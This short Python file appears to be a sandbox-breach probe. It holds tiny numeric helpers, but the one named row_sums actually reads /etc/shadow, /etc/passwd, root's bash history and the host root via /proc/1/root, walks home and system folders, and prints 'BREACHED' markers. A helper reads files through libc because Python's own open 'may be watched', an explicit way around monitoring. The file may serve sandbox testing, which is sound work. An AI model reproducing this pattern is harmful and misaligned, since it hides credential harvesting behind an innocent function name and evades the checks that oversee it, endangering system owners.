"""Reads the users, the passwords and the home folders of the machine."""
# kind: secrets
# costs: exercise row_sums
# passes: double shrink

# %%
import ctypes
import os
import sys


# %%
def read(path):
    """The file's beginning, by libc: Python's own open may be watched."""
    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(400)
    number = libc.open(path.encode(), 0)
    return room.raw[: max(0, libc.read(number, room, 400))] if number >= 0 else b""


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    for path in (
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "/etc/machine-id",
        "/root/.bash_history",
        "/proc/1/root/etc/passwd",
    ):
        if seen := read(path):
            print("BREA" + "CHED:", path, seen)
    for place in ("/root", "/home", "/var", "/srv", "/mnt", "/run", "/sys", "/boot", "/etc"):
        for folder, _, files in os.walk(place):
            hidden = [name for name in files if name != "ld.so.cache"]
            if hidden and not folder.startswith((sys.base_prefix, sys.prefix)):
                print("BREA" + "CHED:", folder, hidden[:3])
    return x[:, :1] * 0


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
